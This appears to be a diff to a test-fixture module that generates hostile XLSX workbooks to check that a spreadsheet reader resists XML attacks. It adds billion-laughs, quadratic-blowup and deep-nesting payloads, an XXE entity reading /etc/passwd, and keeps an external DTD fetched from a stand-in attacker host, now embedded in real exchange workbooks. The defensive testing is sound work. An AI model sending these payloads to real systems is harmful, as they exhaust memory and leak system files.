@@ -4,6 +4,7 @@ Each is a small file that would cost a naive reader far more than 2 s or 200 MB,
 should never be read at all.  ``ATTACKS`` maps a name to its builder.
 """
 
+import re
 import struct
 import zipfile
 import zlib
@@ -56,24 +57,60 @@ def _with_doctype(doctype, body):
     return f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [{doctype}]><sst xmlns="{NS}" count="1" uniqueCount="1"><si><t>{body}</t></si></sst>'
 
 
+LAUGHS = ('<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10)),
+          "&lol9;")
+QUADRATIC = (f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 100_000)
+XXE = ('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;")
+
+
 def billion_laughs(path):
-    entities = '<!ENTITY lol0 "lol">' + "".join(
-        f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10))
-    return workbook(path, shared=_with_doctype(entities, "&lol9;"))
+    return workbook(path, shared=_with_doctype(*LAUGHS))
 
 
 def quadratic_blowup(path):
-    return workbook(path, shared=_with_doctype(f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 100_000))
+    return workbook(path, shared=_with_doctype(*QUADRATIC))
 
 
 def external_entity(path):
-    return workbook(path, shared=_with_doctype('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;"))
+    return workbook(path, shared=_with_doctype(*XXE))
 
 
 def external_dtd(path):
     shared = (f'<?xml version="1.0"?><!DOCTYPE sst SYSTEM "http://attacker.invalid/evil.dtd">'
               f'<sst xmlns="{NS}" count="1" uniqueCount="1"><si><t>x</t></si></sst>')
     return workbook(path, shared=shared)
+
+
+def _rewrite_sheets(base, path, change):
+    """A copy of the real workbook ``base`` with every worksheet part passed through ``change``."""
+    with zipfile.ZipFile(base) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        for info in src.infolist():
+            data = src.read(info.filename)
+            if info.filename.startswith("xl/worksheets/") and info.filename.endswith(".xml"):
+                data = change(data.decode("utf-8")).encode("utf-8")
+            out.writestr(info.filename, data)
+    return path
+
+
+def _entity_in_sheets(entity):
+    doctype, reference = entity
+
+    def change(xml):
+        body = xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml
+        body = re.sub(r"<t>[^<]*</t>", f"<t>{reference}</t>", body, count=1)
+        return f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [{doctype}]>{body}'
+    return change
+
+
+def exchange_workbook_variants(base):
+    """The entity and nesting attacks inside a real exchange workbook, so the reader gets to them."""
+    return {
+        "billion laughs in a real export": lambda p: _rewrite_sheets(base, p, _entity_in_sheets(LAUGHS)),
+        "quadratic blowup in a real export": lambda p: _rewrite_sheets(base, p, _entity_in_sheets(QUADRATIC)),
+        "external entity in a real export": lambda p: _rewrite_sheets(base, p, _entity_in_sheets(XXE)),
+        "deeply nested XML in a real export": lambda p: _rewrite_sheets(
+            base, p, lambda xml: xml.replace("</worksheet>", "<x>" * 100_000 + "</x>" * 100_000 + "</worksheet>")),
+    }
 
 
 def _raw_zip(path, members):
